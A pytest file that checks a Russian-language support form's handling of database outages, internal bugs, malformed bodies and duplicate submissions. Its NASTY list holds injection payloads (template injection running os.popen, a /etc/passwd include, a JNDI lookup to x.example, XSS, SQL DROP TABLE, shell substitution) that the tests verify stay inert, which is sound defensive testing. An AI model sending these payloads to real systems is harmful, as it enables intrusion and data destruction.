"""A form when things go wrong: the database away, a bug of ours, a body nobody can read, and hostile words."""

from __future__ import annotations

import asyncio
import html
import json
from datetime import timedelta
from typing import Any
from uuid import UUID

import pytest

from desk.quarantine import Quarantine
from gateway import assemble
from storage.errors import StorageUnavailable
from storage.quarantine import Filter

NASTY = [
    "{{7*'7'}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    '{% include "/etc/passwd" %}',
    "{0.__class__.__init__.__globals__}",
    "{{ 9**9**9 }}",
    "${jndi:ldap://x.example/a}",
    "=?utf-8?b?YQ0KQmNjOiB2QG90aGVyLmV4YW1wbGU=?=",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1'; DROP TABLE tickets; --",
    "=cmd|'/c calc'!A1",
    "%s%n%x{n}",
    "$(touch x)`id`",
    "\u202etxt.exe",
]
UNSTORABLE = ["\x00нуль", "a\uffffb", "\ud800", "\x1b[31mкрасный"]


async def entries(person: Any) -> list[dict[str, Any]]:
    """What is in quarantine."""
    quarantine = Quarantine(person.program.opened, person.program.intake)
    found, _ = await quarantine.listing(Filter())
    return found


def away(*_: Any) -> Any:
    """A database that cannot be reached."""
    raise StorageUnavailable("the database is away")


async def test_with_the_database_away_everything_typed_stays_on_the_page(
    person: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = await person.open()
    solved = await person.proof(page.nonce)

    async def refuse(unit: Any) -> Any:
        away()

    monkeypatch.setattr(person.program.intake._group, "submit", refuse)
    again = await person.send(page, person.right | {"place": "Склад"}, proof=solved)
    assert again.status == 503
    assert again.headers["Retry-After"] == "60"
    assert "сейчас не получается её сохранить" in again.words
    assert person.right["what"] in again.body
    assert 'value="Склад"' in again.body
    monkeypatch.undo()
    assert again.nonce == page.nonce, "so that it cannot become two tickets"
    assert (await person.send(again, proof=solved)).status == 303
    assert await person.tickets() == 1


async def test_with_every_read_and_write_failing_the_form_still_answers(
    person: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = await person.open()

    async def fail(*_: Any, **__: Any) -> Any:
        away()

    for name in ("read", "write"):
        monkeypatch.setattr(person.program.opened, name, fail)
    again = await person.send(page, person.right | {"what": ""}, [("a.png", person.png)])
    assert again.status == 422
    assert "Файлы выберите, пожалуйста, ещё раз" in again.words
    assert person.right["email"] in again.body
    assert (await person.get(f"/form/support/done/{'a' * 32}")).status == 503


async def test_a_bug_of_ours_costs_no_form(person: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    page = await person.open()

    def broken(*_: Any) -> Any:
        raise RuntimeError("a bug")

    with monkeypatch.context() as patched:
        patched.setattr("desk.arrival.Desk.file", broken)
        sent = await person.send(page, files=[("a.png", person.png)])
    assert sent.location == "/form/support/kept"
    assert "Мы сохранили вашу заявку" in (await person.get(sent.location)).words
    (entry,) = await entries(person)
    assert (entry["channel"], entry["account"], entry["reason"]) == ("web", "support", "intake_error")
    readers = assemble.readers(person.program.settings)
    quarantine = Quarantine(person.program.opened, person.program.intake, readers)
    replayed = await quarantine.replay(UUID(entry["id"]), assemble.mail_reader(person.program.settings))
    ticket = await person.program.read.ticket(replayed.number, "ru")
    assert ticket["subject"] == person.right["what"]
    assert [f["name"] for f in ticket["messages"][0]["attachments"]] == ["a.png"]
    assert len(await person.rows("SELECT id FROM consents")) == 1
    assert (await quarantine.replay(UUID(entry["id"]), assemble.mail_reader(person.program.settings))).already
    again = await person.send(page, files=[("a.png", person.png)])
    assert replayed.number in (await person.done(again)).words, "the same form sent again finds its ticket"
    assert await person.tickets() == 1


@pytest.mark.parametrize(
    "raw, status",
    [
        (b"", 400),
        (b"garbage", 400),
        (b"--b\r\nx", 400),
        (b"--b\r\nContent-Disposition: form-data; name=a\r\n\r\ncut", 400),
    ],
)
async def test_what_is_no_form_is_kept_with_its_bytes(person: Any, raw: bytes, status: int) -> None:
    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    async with person.session.post(f"{person.base}/form/support", data=raw, headers=headers) as answer:
        assert answer.status == status
        assert "Traceback" not in await answer.text()
    kept = await entries(person)
    assert [entry["reason"] for entry in kept] == (["not_a_form"] if raw else [])
    for entry in kept:
        quarantine = Quarantine(person.program.opened, person.program.intake, assemble.readers(person.program.settings))
        assert await quarantine.raw(UUID(entry["id"])) == raw
        assert (await quarantine.replay(UUID(entry["id"]), assemble.mail_reader(person.program.settings))).why


async def test_nobody_fills_the_quarantine(person: Any) -> None:
    for _ in range(6):
        headers = {"Content-Type": "multipart/form-data; boundary=b"}
        async with person.session.post(f"{person.base}/form/support", data=b"garbage", headers=headers) as answer:
            assert answer.status == 400
    assert len(await entries(person)) == 3


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "application/json", "text/plain", ""])
async def test_another_kind_of_body_is_refused(person: Any, kind: str) -> None:
    async with person.session.post(
        f"{person.base}/form/support", data=b"a=b", headers={"Content-Type": kind or "application/octet-stream"}
    ) as answer:
        assert answer.status == 415


async def test_hostile_words_stay_words_in_every_field(person: Any) -> None:
    for nasty in NASTY:
        typed = {"hinder": "low", "what": nasty, "place": nasty, "name": nasty, "email": "i@romashka.example"}
        again = await person.send(await person.open(), typed | {"phone": nasty}, [(f"{nasty}.txt", b"x")], proof="")
        assert again.status == 422
        assert "<script>alert" not in again.body
        assert "<img src=x" not in again.body
        assert again.body.count(html.escape(nasty).replace("&#x27;", "&#39;").replace("&quot;", "&#34;")) >= 4
        ticket = await person.ticket(await person.done(await person.send(again, typed, proof="")))
        assert ticket["subject"] == nasty
        assert nasty in ticket["messages"][0]["text"]
        assert ticket["messages"][0]["from"]["name"] == nasty
        person.clock.at += timedelta(hours=1)


async def test_hostile_words_instead_of_a_choice_a_mailbox_and_a_number(person: Any) -> None:
    for nasty in NASTY:
        for key in ("hinder", "email", "phone"):
            again = await person.send(await person.open(), person.right | {key: nasty}, proof="")
            assert again.status == 422, (key, nasty)
            assert "<script>alert" not in again.body
    assert await person.tickets() == 0


async def test_what_cannot_be_stored_is_left_out(person: Any) -> None:
    for bad in UNSTORABLE:
        typed = person.right | {"what": f"до {bad} после", "name": f"И{bad}"}
        done = await person.done(await person.send(await person.open(), typed))
        ticket = await person.ticket(done)
        text = ticket["messages"][0]["text"]
        assert text.startswith("до ")
        assert "после" in text
        assert not any(ord(c) in (0, 0x1B, 0xFFFF) for c in text)
        person.clock.at += timedelta(hours=1)


async def test_twenty_presses_at_once_make_one_ticket(person: Any) -> None:
    page = await person.open()
    solved = await person.proof(page.nonce)
    sent = await asyncio.gather(*(person.send(page, proof=solved, wait=5, boundary=f"b{n}") for n in range(20)))
    assert {(one.status, one.location) for one in sent} == {(303, sent[0].location)}
    assert await person.tickets() == 1


async def test_the_challenge_is_never_kept_by_a_cache(person: Any) -> None:
    page = await person.get("/form/support/challenge")
    assert page.headers["Cache-Control"] == "no-store"
    assert set(json.loads(page.body)) == {"nonce", "parameters", "signature"}
